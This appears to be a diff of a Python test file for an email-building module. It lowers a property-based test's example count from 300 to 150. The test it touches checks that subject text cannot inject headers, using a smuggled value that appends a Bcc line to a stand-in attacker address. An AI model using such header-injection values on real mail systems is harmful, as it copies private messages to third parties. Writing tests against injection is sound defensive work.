@@ -94,7 +94,7 @@ def test_a_file_with_a_japanese_name_goes_beside_the_message():
     assert mail.get_body(("plain",)).get_content().startswith("Tanaka 2000")
 
 
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=150, deadline=None)
 @given(st.text(max_size=80), st.text(max_size=60))
 def test_no_text_in_a_name_or_subject_can_add_a_header(subject, name):
     message = replace(PLAIN, subject=f"{subject}\r\nBcc: thief@evil.example")
